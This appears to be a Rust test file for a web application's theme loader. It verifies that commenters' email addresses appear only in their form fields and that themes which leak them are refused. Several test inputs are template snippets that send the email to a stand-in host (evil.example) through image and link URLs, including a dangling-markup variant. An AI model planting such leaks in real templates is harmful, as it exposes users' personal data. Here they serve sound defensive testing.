//! A theme can print email addresses only in their form fields.

use super::{changed, folder, load, load_what_is_right};
use crate::support::{Browser, CommentFields, TestApp};

const EMAIL: &str = "dora@mail.example";

/// Returns a reader whose browser remembers name and email address, and the page of an article for this reader.
async fn returning(app: &TestApp) -> (Browser, String) {
    app.article("On margins").create().await;
    let reader = app.visitor();
    let typed = CommentFields {
        name: "Dora",
        email: EMAIL,
        remember: true,
        ..CommentFields::default()
    };
    let answer = reader.comment("on-margins", &typed).await;
    assert_eq!(answer.status, 303, "{}", answer.body);
    let body = reader.get("/articles/on-margins").await.body;
    (reader, body)
}

#[tokio::test(flavor = "multi_thread")]
async fn a_returning_commenters_address_stands_in_its_field_alone() {
    // A theme that stores the field in a variable, as macros do.
    let form = changed(
        "comments/_form.html",
        "{{ summary(form.errors) }}",
        "{% set kept %}{{ form.email }}{% endset %}{{ summary(form.errors) }}",
    );
    let theme = load(folder(&[("comments/_form.html", &form)]).path()).unwrap();
    let app = TestApp::start_with_theme(theme).await;
    let (_, body) = returning(&app).await;
    assert_eq!(body.matches(EMAIL).count(), 1);
    assert!(!body.contains("gloss-private"), "{body}");
}

#[tokio::test(flavor = "multi_thread")]
async fn the_built_in_form_remembers_the_address_and_returns_what_was_typed() {
    let app = TestApp::start().await;
    let (reader, body) = returning(&app).await;
    assert!(body.contains(&format!("value=\"{EMAIL}\"")), "{body}");
    let typed = CommentFields {
        email: "\"<no> & ' address",
        ..CommentFields::default()
    };
    let answer = reader.comment("on-margins", &typed).await;
    assert_eq!(answer.status, 422);
    assert_eq!(answer.html().field("email"), "\"<no> & ' address");
}

#[test]
fn a_theme_that_puts_an_address_elsewhere_is_refused() {
    let anchor = "{{ summary(form.errors) }}";
    for leak in [
        "<img alt=\"\" src=\"https://evil.example/?{{ form.email }}\">",
        "{% set field %}{{ input(\"email\", \"x\", form.email, [], type=\"email\") }}{% endset %}<img alt=\"\" src='https://evil.example/?{{ field }}'>",
        "<img alt=\"\" src='https://evil.example/? <input type=\"email\" value={{ form.email }}>'>",
        "<noscript><img alt=\"\" src='https://evil.example/?</noscript>",
        "<a href=\"https://evil.example/{{ form.email }}\">x</a>",
    ] {
        let form = changed("comments/_form.html", anchor, &format!("{leak}{anchor}"));
        let refused = load(folder(&[("comments/_form.html", &form)]).path());
        let problems = refused.err().unwrap_or_default();
        assert!(
            problems
                .iter()
                .any(|problem| problem.to_string().contains("email address")),
            "{leak}: {problems:?}"
        );
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_theme_that_leaks_an_address_in_a_rare_case_is_replaced_by_the_built_in_one() {
    let anchor = "{{ summary(form.errors) }}";
    let leak = "{% if form.name == \"Dora\" %}<img alt=\"\" src=\"https://evil.example/?{{ form.email }}\">{% endif %}";
    let form = changed("comments/_form.html", anchor, &format!("{leak}{anchor}"));
    let theme = load_what_is_right(&[("comments/_form.html", &form)]);
    assert_eq!(theme.problems(), [], "the sample pages do not reach the leak");
    let app = TestApp::start_with_theme(theme).await;
    let (_, body) = returning(&app).await;
    assert!(!body.contains("evil.example"), "{body}");
    assert_eq!(body.matches(EMAIL).count(), 1);
    let problems = app.app.theme.problems();
    assert!(problems[0].to_string().contains("email address"), "{problems:?}");
}
